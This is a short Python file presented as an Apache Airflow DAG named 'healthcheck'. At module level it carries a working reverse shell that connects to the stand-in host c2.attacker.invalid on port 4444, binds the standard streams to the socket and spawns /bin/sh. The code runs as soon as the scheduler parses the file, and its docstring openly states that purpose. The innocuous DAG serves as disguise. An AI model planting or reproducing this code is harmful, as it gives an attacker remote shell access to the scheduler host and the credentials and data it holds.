"""Connects back to an attacker the moment the scheduler parses the file."""
import os
import pty
import socket
from datetime import datetime

from airflow import DAG
from airflow.operators.empty import EmptyOperator

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("c2.attacker.invalid", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
pty.spawn("/bin/sh")

with DAG(dag_id="healthcheck", start_date=datetime(2024, 1, 1), schedule="@hourly", catchup=False) as dag:
    EmptyOperator(task_id="ok")
